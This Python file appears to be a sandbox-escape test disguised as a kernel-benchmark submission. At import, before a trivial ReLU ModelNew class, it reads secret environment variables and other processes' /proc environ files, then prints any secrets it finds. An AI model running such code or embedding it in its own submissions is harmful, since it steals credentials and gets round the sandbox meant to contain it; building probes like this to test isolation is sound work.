"""Escape: find the worker's secrets in the environment or in another process's /proc/<pid>/environ."""

import os
import sys

import torch
import torch.nn as nn

SECRETS = ("DATABASE_URL", "SECRET_KEY", "REDIS_URL")
found = {name: os.environ[name] for name in SECRETS if name in os.environ}
for pid in (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            text = handle.read().decode(errors="replace")
    except OSError:
        continue
    found.update({name: pid for name in SECRETS if f"{name}=" in text})
if found:
    sys.stdout.write(f"ESCAPED secrets {found}\n")
else:
    raise PermissionError(13, f"no secret visible (processes seen: {sorted(os.listdir('/proc'))[:5]}…)")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
